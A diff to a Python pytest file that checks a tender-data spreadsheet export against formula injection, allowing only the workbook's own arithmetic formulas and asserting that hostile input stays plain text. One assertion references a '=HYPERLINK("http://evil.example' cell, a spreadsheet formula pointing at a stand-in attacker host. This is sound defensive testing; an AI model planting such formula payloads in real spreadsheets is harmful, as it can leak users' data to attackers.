@@ -84,9 +84,15 @@ def texts(path: Path) -> set[str]:
             if isinstance(c.value, str)}
 
 
-def check(path: Path, whole: bool = True) -> None:
-    """No formula; the hostile text is there as text (a whole cell, or within one)."""
-    assert formula_cells(path) == []
+#: The model workbook's own formulas (effective weight, points): cell references and
+#: arithmetic only, never a function a hostile text could call.
+OURS = re.compile(r"<f>[A-Z$0-9*/+\-(), .]*</f>$")
+
+
+def check(path: Path, whole: bool = True, own_formulas: bool = False) -> None:
+    """No formula but our own; the hostile text is there as text (a whole cell, or within
+    one)."""
+    assert [f for f in formula_cells(path) if not (own_formulas and OURS.search(f))] == []
     shown = texts(path)
     if whole:
         assert any(t.startswith('=HYPERLINK("http://evil.example') for t in shown)
@@ -107,7 +113,7 @@ def test_model_workbook_writes_no_formula(demo_data: TenderData, tmp_path: Path,
                                           surrogates: bool) -> None:
     out = tmp_path / "model.xlsx"
     export_model(hostile(demo_data, surrogates=surrogates), out)
-    check(out)
+    check(out, own_formulas=True)
 
 
 @pytest.mark.parametrize("surrogates", [False, True])
